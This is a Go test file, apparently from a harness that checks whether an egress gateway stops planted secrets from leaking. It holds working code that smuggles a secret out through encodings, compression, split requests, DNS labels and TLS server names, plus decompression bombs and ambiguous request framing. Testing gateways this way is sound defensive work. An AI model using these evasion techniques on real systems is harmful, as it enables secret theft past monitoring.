package attacker

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/url"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/klauspost/compress/flate"
	"github.com/klauspost/compress/gzip"
	"github.com/klauspost/compress/zlib"
	"github.com/klauspost/compress/zstd"
)

// harmless is a value that looks like a secret but is none. It is shorter than a bearer
// token, which is refused whoever owns it.
const harmless = "bN4xTm8rK2cQz7LdFy5qW1xJv9sHg3"

// leak is one way of putting a value into requests. The last request must not arrive
// whole.
type leak struct {
	name string
	make func(v string) []message
}

// one returns a way that needs a single request.
func one(name string, f func(v string) message) leak {
	return leak{name, func(v string) []message { return []message{f(v)} }}
}

// inBody returns ways of writing a value in a body, by their names.
func inBody(ways map[string]func(string) string) (out []leak) {
	for name, f := range ways {
		out = append(out, one(name, func(v string) message { return message{body: "note: " + f(v) + " .\n"} }))
	}
	return out
}

// watched returns the secret that belongs to an attack.
func (e *Env) watched(id string) (string, error) {
	v := reverse(e.Watched[id])
	if v == "" {
		return "", cannot("no secret is planted for %s", id)
	}
	return v, nil
}

const found = "what leaves is decoded and searched for what is watched for; what can't be is refused"

// leaks returns an attack that sends its secret in each of these ways. Its control sends
// a harmless value in the same ways.
func leaks(id, how, source string, ways ...leak) Attack {
	return leaksBy(id, how, source, false, ways...)
}

func leaksBy(id, how, source string, http2 bool, ways ...leak) Attack {
	full := "secrets/" + id
	send := func(e *Env, l leak, v, whose string) error {
		s, c := speakTo(e.Leak), client2()
		defer s.close()
		defer c.CloseIdleConnections()
		ms := l.make(v)
		for i := range ms {
			mark := markOf(whose, l.name, i+1, len(ms))
			var err error
			if ms[i].again {
				s.send(&ms[i], "")
			}
			if http2 {
				_, err = send2(c, e.Leak, &ms[i], mark)
			} else {
				_, err = s.send(&ms[i], mark)
			}
			if err != nil {
				return err
			}
		}
		return nil
	}
	return Attack{ID: id, How: how, Defence: found, Source: source, Judge: ByHost,
		Control: func(e *Env) error {
			var tries []try
			for _, l := range ways {
				tries = append(tries, try{l.name, func() error {
					if err := send(e, l, harmless, "control"); err != nil {
						return err
					}
					return nil
				}})
			}
			return e.everyOne(tries...)
		},
		Try: func(e *Env) error {
			v, err := e.watched(full)
			if err != nil {
				return err
			}
			var tries []try
			for _, l := range ways {
				tries = append(tries, try{l.name, func() error { return send(e, l, v, full) }})
			}
			return e.atOnce(tries...)
		}}
}

// everyOne makes the tries of a control: each must succeed.
func (e *Env) everyOne(tries ...try) error {
	errs := make([]error, len(tries))
	slots, done := make(chan struct{}, 8), make(chan struct{})
	for i, t := range tries {
		go func() { // ends with the try, which bounds its own waits
			slots <- struct{}{}
			if err := t.f(); err != nil {
				errs[i] = fmt.Errorf("%s: %w", t.name, err)
			}
			<-slots
			done <- struct{}{}
		}()
	}
	for range tries {
		<-done
	}
	return errors.Join(errs...)
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// eachByte writes every byte of a value in the same way.
func eachByte(format, between string) func(string) string {
	return func(s string) string {
		var out []string
		for _, c := range []byte(s) {
			out = append(out, fmt.Sprintf(format, c))
		}
		return strings.Join(out, between)
	}
}

// everySecond writes every second byte of a value in the same way.
func everySecond(format string) func(string) string {
	return func(s string) string {
		var b strings.Builder
		for i, c := range []byte(s) {
			if i%2 == 0 {
				fmt.Fprintf(&b, format, c)
			} else {
				b.WriteByte(c)
			}
		}
		return b.String()
	}
}

func packed(open func(io.Writer) io.WriteCloser) func(string) string {
	return func(s string) string {
		var b bytes.Buffer
		w := open(&b)
		io.WriteString(w, s)
		w.Close()
		return b.String()
	}
}

var (
	gzipped = packed(func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) })
	zlibbed = packed(func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) })
	flated  = packed(func(w io.Writer) io.WriteCloser { f, _ := flate.NewWriter(w, 6); return f })
	zstded  = packed(func(w io.Writer) io.WriteCloser { z, _ := zstd.NewWriter(w, zstd.WithEncoderConcurrency(1)); return z })
)

func zipped(s string) string {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w, _ := z.Create("notes/readme.txt")
	io.WriteString(w, strings.Repeat("a line of text\n", 20)+s)
	z.Close()
	return b.String()
}

func tarred(s string) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	w.WriteHeader(&tar.Header{Name: "notes.txt", Mode: 0o644, Size: int64(len(s))})
	io.WriteString(w, s)
	w.Close()
	z.Close()
	return b.String()
}

// gitPack returns a pack with one blob, as a push sends it.
func gitPack(s string) string {
	n := len(s)
	var b strings.Builder
	b.WriteString("PACK\x00\x00\x00\x02\x00\x00\x00\x01")
	c := byte(3<<4 | n&15)
	for n >>= 4; n > 0; n >>= 7 {
		b.WriteByte(c | 0x80)
		c = byte(n & 0x7f)
	}
	b.WriteByte(c)
	b.WriteString(zlibbed(s))
	b.WriteString(strings.Repeat("\x00", 20))
	return b.String()
}

func coded(name, coding string, f func(string) string) leak {
	return one(name, func(v string) message {
		return message{head: []string{"Content-Encoding: " + coding}, body: f("a text with " + v + " in it")}
	})
}

// filler returns text in which nothing is found.
var filler = sync.OnceValue(func() string {
	return strings.Repeat("0123456789 the quick brown fox jumps over the lazy dog\n", 2400)
})

func pieces(s string, n int) (out []string) {
	for len(s) > n {
		out, s = append(out, s[:n]), s[n:]
	}
	return append(out, s)
}

func lower32(s string) string {
	return strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte(s)))
}

func rot13(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case 'a' <= r && r <= 'z':
			return 'a' + (r-'a'+13)%26
		case 'A' <= r && r <= 'Z':
			return 'A' + (r-'A'+13)%26
		}
		return r
	}, s)
}

// places returns the ways to put a value into each part of a request that HTTP/2 has, too.
func places() []leak {
	get := func(target string, head ...string) message {
		return message{method: "GET", target: target, head: head}
	}
	return []leak{
		one("path", func(v string) message { return get("/v1/" + v) }),
		one("query", func(v string) message { return get("/v1?q=" + v) }),
		one("name of a parameter", func(v string) message { return get("/v1?" + v + "=1") }),
		one("header", func(v string) message { return get("/v1", "X-Note: see "+v+".") }),
		one("user agent", func(v string) message { return get("/v1", "User-Agent: tool/1 ("+v+")") }),
		one("referer", func(v string) message { return get("/v1", "Referer: https://a.test/"+v) }),
		one("bearer", func(v string) message { return get("/v1", "Authorization: Bearer "+v) }),
		one("basic", func(v string) message { return get("/v1", "Authorization: Basic "+b64("me:"+v)) }),
		one("cookie", func(v string) message { return get("/v1", "Cookie: a=1; b="+v) }),
		one("date", func(v string) message { return get("/v1", "If-None-Match: \""+v+"\"") }),
		one("body", func(v string) message { return message{body: `{"key":"` + v + `"}`} }),
		one("body of unknown length", func(v string) message { return message{chunks: []string{filler(), v, filler()}} }),
	}
}

func secrets() []Attack {
	return family("secrets", "W5", slices.Concat(secretPlaces(), secretSpellings(), secretPackings(), secretPieces(), secretSplits(), secretNames())...)
}

// secretPlaces returns the attacks that put the secret into each place of a request.
func secretPlaces() []Attack {
	return []Attack{
		leaks("places", "Send a known secret in the path, the query, headers, cookies, credentials of one's own and the body.", "Pipelock", places()...),
		leaksBy("http2", "Send it in the same places of HTTP/2, and in a trailer.", "Pipelock", true, append(places(),
			one("trailer", func(v string) message { return message{chunks: []string{"x"}, trailer: []string{"X-End: " + v}} }))...),
		leaks("method-and-names", "Send it as a method, and in the names of headers, which lose their case, as it is and as hexadecimal digits.", "generic",
			one("method", func(v string) message { return message{method: v, target: "/v1"} }),
			one("name of a header", func(v string) message {
				return message{head: []string{"X-" + hex.EncodeToString([]byte(v)) + ": 1"}}
			}),
			one("plain name", func(v string) message { return message{head: []string{"X-" + v + ": 1"}} }),
			one("plain name in capitals", func(v string) message { return message{head: []string{strings.ToUpper(v) + ": 1"}} }),
			one("a part of one", func(v string) message {
				return message{head: []string{"X-" + hex.EncodeToString([]byte(v))[:40] + ": 1"}}
			}),
		),
	}
}

// secretSpellings returns the attacks that write the secret in other characters.
func secretSpellings() []Attack {
	return []Attack{
		leaks("percent", "Write it percent-encoded: wholly, every second byte, twice, in path and query.", "OpenShell#637",
			one("path", func(v string) message { return message{method: "GET", target: "/v1/" + eachByte("%%%02X", "")(v)} }),
			one("query", func(v string) message { return message{method: "GET", target: "/v1?q=" + eachByte("%%%02x", "")(v)} }),
			one("every second", func(v string) message { return message{method: "GET", target: "/v1?q=" + everySecond("%%%02X")(v)} }),
			one("twice", func(v string) message { return message{method: "GET", target: "/v1?q=" + everySecond("%%25%02X")(v)} }),
			one("a form", func(v string) message {
				return message{head: []string{"Content-Type: application/x-www-form-urlencoded"}, body: "a=1&k=" + eachByte("%%%02X", "")(v)}
			}),
		),
		leaks("base64", "Write it as base64, in each alphabet and alignment, unpadded, in lines, twice, as a token has it.", "Pipelock", inBody(map[string]func(string) string{
			"standard": b64, "url": func(s string) string { return base64.URLEncoding.EncodeToString([]byte(s)) }, "unpadded": func(s string) string { return strings.TrimRight(b64(s), "=") },
			"at 1": func(s string) string { return b64("x" + s) }, "at 2": func(s string) string { return b64("xy" + s + "z") }, "in json": func(s string) string { return `{"data":"` + b64(`{"k":"`+s+`"}`) + `"}` },
			"lines": func(s string) string {
				return strings.Join(pieces(b64(strings.Repeat("x", 50)+s+strings.Repeat("y", 60)), 76), "\r\n")
			}, "twice": func(s string) string { return b64("z" + b64("x"+s)) },
			"a token": func(s string) string {
				return b64(`{"alg":"none"}`) + "." + strings.TrimRight(b64(`{"sub":"`+s+`"}`), "=") + ".c2ln"
			},
		})...),
		leaks("digits", "Write it as hexadecimal, octal, decimal or binary digits, with and without separators, or in base 32.", "Pipelock", inBody(map[string]func(string) string{
			"hex": eachByte("%02x", ""), "HEX": eachByte("%02X", ""), "spaced": eachByte("%02x", " "), "colons": eachByte("%02X", ":"), "escapes": eachByte(`\x%02x`, ""), "octal": eachByte(`\%03o`, ""),
			"decimal": eachByte("%d", ", "), "binary": eachByte("%08b", " "), "base 32": func(s string) string { return base32.StdEncoding.EncodeToString([]byte("xy" + s)) },
			"hex of base64": func(s string) string { return hex.EncodeToString([]byte(b64(s))) }, "base64 of hex": func(s string) string { return b64(hex.EncodeToString([]byte(s))) },
		})...),
		leaks("escapes", "Write it by the escapes of JSON and HTML, wholly and in part.", "Pipelock", inBody(map[string]func(string) string{
			"unicode": eachByte(`\u%04x`, ""), "unicode in part": everySecond(`\u%04X`), "entities": eachByte("&#%d;", ""), "hex entities": eachByte("&#x%x;", ""), "entities in part": everySecond("&#%d;"),
		})...),
		leaks("looks", "Write it with letters that look like its own, invisible ones between, or a separator after each.", "Pipelock", inBody(map[string]func(string) string{
			"zero width": func(s string) string { return strings.Join(strings.Split(s, ""), "\u200b") },
			"full width": func(s string) string { return strings.Map(func(r rune) rune { return r + 0xfee0 }, s) },
			"dashes":     func(s string) string { return strings.Join(strings.Split(s, ""), "-") },
			"blanks":     func(s string) string { return strings.Join(strings.Split(s, ""), " ") },
			"commas":     func(s string) string { return strings.Join(strings.Split(s, ""), `","`) },
			"lines":      func(s string) string { return strings.Join(strings.Split(s, ""), "\n") },
			"likes": func(s string) string {
				return strings.NewReplacer("a", "а", "e", "е", "o", "о", "p", "р", "c", "с", "x", "х").Replace(s)
			},
		})...),
		leaks("turned", "Write it backwards, by ROT13, or as UTF-16.", "Pipelock", inBody(map[string]func(string) string{
			"backwards": reverse, "rot13": rot13, "utf-16le": eachByte("%c\x00", ""), "utf-16be": eachByte("\x00%c", ""),
		})...),
	}
}

// secretPackings returns the attacks that compress the secret or archive it.
func secretPackings() []Attack {
	return []Attack{
		leaks("codings", "Compress the body, by each coding and by several.", "Pipelock",
			coded("gzip", "gzip", gzipped), coded("x-gzip", "x-gzip", gzipped), coded("deflate", "deflate", zlibbed), coded("bare deflate", "deflate", flated), coded("brotli", "br", Brotli), coded("zstd", "zstd", zstded),
			coded("gzip twice", "gzip, gzip", func(s string) string { return gzipped(gzipped(s)) }),
			coded("three", "zstd, br, gzip", func(s string) string { return gzipped(Brotli(zstded(s))) }),
			coded("upper case", "GZIP", gzipped), coded("identity too", "identity, gzip", gzipped),
			one("two headers", func(v string) message {
				return message{head: []string{"Content-Encoding: gzip", "Content-Encoding: br"}, body: Brotli(gzipped("a " + v))}
			}),
			one("in pieces", func(v string) message {
				return message{head: []string{"Content-Encoding: gzip"}, chunks: pieces(gzipped(filler()+v), 7)}
			}),
		),
		leaks("archives", "Compress without saying so: gzip, zlib, zip, tar, a git pack, gzip as base64.", "Pipelock",
			one("gzip", func(v string) message { return message{body: gzipped("see " + v)} }),
			one("zlib", func(v string) message { return message{body: zlibbed("see " + v)} }),
			one("zstd", func(v string) message { return message{body: zstded("see " + v)} }),
			one("zip", func(v string) message { return message{body: zipped(v)} }),
			one("tar", func(v string) message { return message{body: tarred(v)} }),
			one("git pack", func(v string) message {
				// Not as git pushes it, which no route takes.
				return message{target: "/v1/repo.git/pack", body: "0000" + gitPack("a file\nkey = "+v+"\n")}
			}),
			one("base64 of gzip", func(v string) message { return message{body: `{"f":"` + b64(gzipped("see "+v)) + `"}`} }),
		),
	}
}

// secretPieces returns the attacks that spread the secret, or a part of it, over the pieces
// of one request.
func secretPieces() []Attack {
	return []Attack{
		leaks("parts", "Send only a part of it: the beginning, the end, the middle.", "Pipelock",
			one("beginning", func(v string) message { return message{body: "k=" + v[:20] + "&"} }),
			one("end", func(v string) message { return message{body: "k=" + v[len(v)-18:]} }),
			one("middle", func(v string) message { return message{body: "k=" + v[8:26] + "&"} }),
			one("middle as base64", func(v string) message { return message{body: b64("z" + v[6:28])} }),
		),
		leaks("borders", "Lay it over the borders of pieces and buffers, and at the end of long bodies.", "Pipelock",
			one("single bytes", func(v string) message { return message{chunks: pieces("key="+v+"&", 1)} }),
			one("after 64 KiB", func(v string) message {
				return message{chunks: []string{strings.Repeat("x ", 32<<10)[:65530], v, " end"}}
			}),
			one("after 16 KiB", func(v string) message { return message{body: strings.Repeat("y ", 8<<10)[:16370] + v + filler()} }),
			one("at the end", func(v string) message { return message{body: filler() + v} }),
			one("a file of a form", func(v string) message {
				return message{head: []string{"Content-Type: multipart/form-data; boundary=q"}, body: "--q\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(filler()[:100]+v) + "\r\n--q--\r\n"}
			}),
		),
		leaks("fields", "Lay its halves into two fields of one body, or two headers.", "Pipelock",
			one("json", func(v string) message {
				b, _ := json.Marshal(map[string]string{"a": v[:len(v)/2], "b": v[len(v)/2:]})
				return message{body: string(b)}
			}),
			one("form", func(v string) message { return message{body: "a=" + v[:18] + "&b=" + url.QueryEscape(v[18:])} }),
		),
		leaks("trailers", "Send it in a trailer, also one that was not announced.", "generic",
			one("value", func(v string) message {
				return message{head: []string{"Trailer: X-End"}, chunks: []string{"x"}, trailer: []string{"X-End: " + v}}
			}),
			one("not announced", func(v string) message {
				return message{head: []string{"Trailer: X-End"}, chunks: []string{"x"}, trailer: []string{"X-End: 1", "X-More: " + v}}
			}),
			one("name", func(v string) message {
				return message{head: []string{"Trailer: X-End"}, chunks: []string{"x"}, trailer: []string{"X-End: 1", "X-" + hex.EncodeToString([]byte(v)) + ": 1"}}
			}),
			one("plain name", func(v string) message {
				return message{head: []string{"Trailer: X-End"}, chunks: []string{"x"}, trailer: []string{"X-End: 1", "X-" + v + ": 1"}}
			}),
			one("announced name", func(v string) message {
				name := "X-" + hex.EncodeToString([]byte(v))
				return message{head: []string{"Trailer: " + name}, chunks: []string{"x"}, trailer: []string{name + ": 1"}}
			}),
		),
	}
}

// secretSplits returns the attacks that spread the secret over several requests.
func secretSplits() []Attack {
	return []Attack{
		leaks("split-requests", "Spread it over several requests.", "Pipelock", leak{"bodies", func(v string) (out []message) {
			for _, p := range pieces(v, 12) {
				out = append(out, message{body: "n=" + p + "&"})
			}
			return out
		}}),
		leaks("split-again", "Spread it over requests, and send again each piece that is refused.", "generic", leak{"twice", func(v string) (out []message) {
			// What passes is a piece that was refused before; where that is not seen,
			// all of these are.
			return []message{{body: "n=" + v[:12] + "&"}, {body: "n=" + v[12:24] + "&", again: true}, {body: "n=" + v[24:] + "&", again: true}}
		}}),
		leaks("split-places", "Spread it over the path of one request, a cookie of the next and a body of the third, out of order.", "Pipelock", leak{"places", func(v string) []message {
			return []message{{method: "GET", target: "/v1/" + v[24:]}, {method: "GET", target: "/v1", head: []string{"Cookie: a=" + v[:12]}}, {body: "x=" + v[12:24] + "&"}}
		}}),
		leaks("split-encoded", "Spread it over requests, each piece written in another way.", "Pipelock", leak{"ways", func(v string) []message {
			return []message{{body: b64(v[:12])}, {method: "GET", target: "/v1?q=" + hex.EncodeToString([]byte(v[12:24]))}, {body: "k=" + v[24:]}}
		}}),
	}
}

// secretNames returns the attacks that put the secret into names of hosts.
func secretNames() []Attack {
	return []Attack{
		{ID: "labels", How: "Look up names under a wildcard route that have it as labels: as it is, which loses its case, as hexadecimal digits of either case, as base 32, in several labels.", Defence: "a name is searched like all that leaves before it is looked up outside", Source: "Docker sbx CVE-2026-12039", Judge: ByHost,
			Control: func(e *Env) error {
				_, err := net.LookupHost("x" + hex.EncodeToString([]byte(harmless))[:48] + "." + e.Wild)
				if err == nil {
					_, err = net.LookupHost(harmless + "." + e.Wild)
				}
				return err
			},
			Try: func(e *Env) error {
				v, err := e.watched("secrets/labels")
				if err != nil {
					return err
				}
				h := hex.EncodeToString([]byte(v))
				var tries []try
				for _, n := range []string{v, "a" + v[:20] + ".b", h[:60], strings.ToUpper(h[:60]), "x" + h[:40] + ".y." + h[30:70], h[:30] + "." + h[30:60], lower32(v)[:50]} {
					n += "." + e.Wild
					tries = append(tries, try{n[:8], func() error {
						// The question alone leaves nothing; the connection would.
						c, err := net.DialTimeout("tcp", n+":443", netPatience)
						if err != nil {
							var d *net.DNSError
							if errors.As(err, &d) && d.IsNotFound {
								return err
							}
							return slow(err)
						}
						c.Close()
						return nil
					}})
				}
				return e.atOnce(tries...)
			}},
		{ID: "server-name", How: "Have it as the server name of TLS, on the connection of an innocent name under the same wildcard.", Defence: "the server name is the name of the connection, or it is refused", Source: "microsandbox#694", Judge: ByHost,
			Control: func(e *Env) error { return hello(e.LeakWild, hostOf(e.LeakWild)) },
			Try: func(e *Env) error {
				v, err := e.watched("secrets/server-name")
				if err != nil {
					return err
				}
				return e.atOnce(each([]string{hex.EncodeToString([]byte(v))[:60] + "." + e.Wild, strings.ToLower(v) + "." + e.Wild}, func(n string) error { return hello(e.LeakWild, n) })...)
			}},
	}
}

// badBody returns an attack by bodies that can't be inspected and must not pass whole.
func badBody(id, how, defence string, good []message, bad func() []message) Attack {
	full := "bodies/" + id
	return Attack{ID: id, How: how, Defence: defence, Source: "Pipelock, mitmproxy", Judge: ByHost,
		Control: func(e *Env) error {
			s := speakTo(e.Leak)
			defer s.close()
			for i := range good {
				if _, err := s.send(&good[i], markOf("control", id, i+1, len(good))); err != nil {
					return fmt.Errorf("%d: %w", i, err)
				}
			}
			return nil
		},
		Try: func(e *Env) error {
			var tries []try
			for i, m := range bad() {
				tries = append(tries, try{fmt.Sprint(i), func() error {
					s := speakTo(e.Leak)
					defer s.close()
					_, err := s.send(&m, markOf(full, fmt.Sprint(i), 1, 1))
					return err
				}})
			}
			return e.atOnce(tries...)
		}}
}

func encodedAs(coding, body string) message {
	return message{head: []string{"Content-Encoding: " + coding}, body: body}
}

// held is the number of bytes beyond those read by upstream that a sender may write:
// sockets, channels and the gateway's own buffers have room for them.
const held = 24 << 20

// ordinary is a text that matches no rule.
const ordinary = "a text that is nothing special\n"

func bodies() []Attack {
	return family("bodies", "W6", slices.Concat(codedBodies(), bodyLengths(), codedReplies())...)
}

// codedBodies returns the attacks by bodies whose coding can't be undone.
func codedBodies() []Attack {
	return []Attack{
		badBody("unknown-coding", "Say a coding that nobody knows, or write one's name so that only some read it.", "a body that can't be decoded is refused", []message{encodedAs("gzip", gzipped(ordinary)), encodedAs("identity", ordinary), encodedAs("", ordinary)}, func() (out []message) {
			for _, c := range []string{"x-secret", "compress", "aes128gcm", "gzip;q=1", "gzip gzip", "\"gzip\"", "gzip,x", "none", "utf-8"} {
				out = append(out, encodedAs(c, gzipped(ordinary)))
			}
			return out
		}),
		badBody("lists", "Say more codings than are looked into, in one header and in several.", "codings are undone to a depth of three", []message{encodedAs("gzip, br, zstd", zstded(Brotli(gzipped(ordinary))))}, func() []message {
			deep := gzipped(gzipped(gzipped(gzipped(ordinary))))
			return []message{encodedAs("gzip, gzip, gzip, gzip", deep), {head: []string{"Content-Encoding: gzip, gzip", "Content-Encoding: gzip", "Content-Encoding: gzip"}, body: deep}, encodedAs(strings.Repeat("gzip,", 100)+"gzip", deep)}
		}),
		badBody("not-what-it-says", "Say a coding in which the body is not.", "a body that can't be decoded is refused", []message{encodedAs("br", Brotli(ordinary)), encodedAs("zstd", zstded(ordinary)), encodedAs("deflate", zlibbed(ordinary))}, func() []message {
			return []message{encodedAs("gzip", ordinary), encodedAs("gzip", Brotli(ordinary)), encodedAs("zstd", ordinary), encodedAs("deflate", gzipped(ordinary)), encodedAs("gzip, gzip", gzipped(ordinary))}
		}),
		badBody("cut", "End a compressed body before its end.", "what is cut off is refused with what came last", []message{encodedAs("gzip", gzipped(ordinary))}, func() []message {
			g, z := gzipped(filler()), zstded(filler())
			return []message{encodedAs("gzip", g[:len(g)-1]), encodedAs("gzip", g[:len(g)/2]), encodedAs("gzip", g[:5]), encodedAs("zstd", z[:len(z)-2]), encodedAs("deflate", zlibbed(filler())[:20]), {head: []string{"Content-Encoding: gzip"}, chunks: []string{g[:len(g)-9]}}}
		}),
		badBody("what-follows", "Let something follow the end of a compressed body.", "bytes after a coding's end are refused", []message{encodedAs("gzip", gzipped(ordinary))}, func() []message {
			return []message{encodedAs("gzip", gzipped(ordinary)+"more"), encodedAs("br", Brotli(ordinary)+"\x00"), encodedAs("deflate", zlibbed(ordinary)+"and more"), {head: []string{"Content-Encoding: gzip"}, chunks: []string{gzipped(ordinary), "more"}}}
		}),
		badBody("broken-checks", "Change a checksum, or a length, of a compressed body.", "a body that can't be decoded is refused", []message{encodedAs("gzip", gzipped(ordinary))}, func() []message {
			g, z := []byte(gzipped(ordinary)), []byte(zlibbed(ordinary))
			g[len(g)-6] ^= 1
			z[len(z)-1] ^= 1
			l := []byte(gzipped(ordinary))
			l[len(l)-1] ^= 0x40
			return []message{encodedAs("gzip", string(g)), encodedAs("deflate", string(z)), encodedAs("gzip", string(l))}
		}),
		badBody("bombs", "Send what is a thousand times as large when it is undone, alone and inside one another.", "what decoders make is bounded", []message{encodedAs("gzip", gzipped(strings.Repeat(ordinary, 1000)))}, func() []message {
			zeros := strings.Repeat("\x00", 20<<20)
			g := gzipped(zeros)
			return []message{encodedAs("gzip", g), encodedAs("gzip, gzip", gzipped(g)), encodedAs("zstd", zstded(zeros)), {body: g}}
		}),
	}
}

// bodyLengths returns the attacks by bodies that differ from their declared length.
func bodyLengths() []Attack {
	return []Attack{
		badBody("lengths", "Announce a length that is not the body's.", "a body is passed on as far as it was sent; framing with two readings is refused", []message{{body: "four"}}, func() []message {
			return []message{
				{head: []string{"Content-Length: 4", "Content-Length: 5"}, raw: "hello"}, {head: []string{"Content-Length: 4, 4"}, raw: "four"}, {head: []string{"Content-Length: -1"}, raw: "x"}, {head: []string{"Content-Length: 0x4"}, raw: "four"},
				{head: []string{"Content-Length: 4", "Transfer-Encoding: chunked"}, raw: "0\r\n\r\n"}, {head: []string{"Transfer-Encoding: gzip, chunked"}, raw: "0\r\n\r\n"}, {head: []string{"Content-Length: 99999999999999999999"}, raw: "x"},
			}
		}),
		{ID: "short-body", How: "Announce more than is sent, and hang up.", Defence: "what was cut off does not look complete", Source: "generic", Judge: ByHost,
			Control: func(e *Env) error {
				s := speakTo(e.Leak)
				defer s.close()
				_, err := s.send(&message{body: filler()}, markOf("control", "short", 1, 1))
				return err
			},
			Try: func(e *Env) error {
				return e.atOnce(each([]string{"Content-Length: 400000", "Transfer-Encoding: chunked"}, func(h string) error {
					s := speakTo(e.Leak)
					defer s.close()
					if err := s.connect(); err != nil {
						return err
					}
					s.conn.SetDeadline(time.Now().Add(netPatience))
					fmt.Fprintf(s.conn, "POST /v1/in HTTP/1.1\r\nHost: %s\r\n%s: %s\r\n%s\r\n\r\n", s.addr, Mark, markOf("bodies/short-body", h[:7], 1, 1), h)
					if strings.HasPrefix(h, "T") {
						fmt.Fprintf(s.conn, "%x\r\n", 400000)
					}
					io.WriteString(s.conn, filler())
					return errors.New("hung up in the middle")
				})...)
			}},
		{ID: "endless", How: "Send without an end to a server that has stopped reading.", Defence: "bodies stream: what upstream does not take, the gateway does not either", Source: "generic", Judge: ByWord,
			Control: func(e *Env) error {
				s := speakTo(e.Leak)
				defer s.close()
				_, err := s.send(&message{chunks: pieces(strings.Repeat(filler(), 4), 64<<10)}, markOf("control", "endless", 1, 1))
				return err
			},
			Try: func(e *Env) error {
				s := speakTo(e.Leak)
				defer s.close()
				if err := s.connect(); err != nil {
					return err
				}
				s.conn.SetDeadline(time.Now().Add(netPatience))
				fmt.Fprintf(s.conn, "POST /v1/stall HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\n\r\n", s.addr)
				piece := filler()[:60<<10]
				text := fmt.Sprintf("%x\r\n%s\r\n", len(piece), piece)
				for n := 0; n < held; n += len(piece) {
					// Slow is not stopped: the wait is long for a machine that is busy.
					s.conn.SetWriteDeadline(time.Now().Add(silence))
					if _, err := io.WriteString(s.conn, text); err != nil {
						return fmt.Errorf("no more is taken after %d KiB: %v", n>>10, err)
					}
				}
				return nil
			}},
	}
}

// codedReplies returns the attack by answers whose coding can't be undone.
func codedReplies() []Attack {
	return []Attack{
		{ID: "replies", How: "Have a server answer with text in a coding that nobody knows, or that is not what it says.", Defence: "an answer that can't be looked at does not enter", Source: "mitmproxy", Judge: ByWord,
			Control: func(e *Env) error {
				s := speakTo(e.Leak)
				defer s.close()
				for _, how := range []string{"gzip", "br", "identity"} {
					a, err := s.send(&message{method: "GET", target: "/v1/coded/" + how}, "")
					if err != nil || len(a.body) == 0 {
						return fmt.Errorf("%s: %v", how, err)
					}
				}
				return nil
			},
			Try: func(e *Env) error {
				return e.atOnce(each([]string{"unknown", "false-gzip", "cut-gzip", "deep"}, func(how string) error {
					s := speakTo(e.Leak)
					defer s.close()
					_, err := s.send(&message{method: "GET", target: "/v1/coded/" + how}, "")
					return err
				})...)
			}},
	}
}
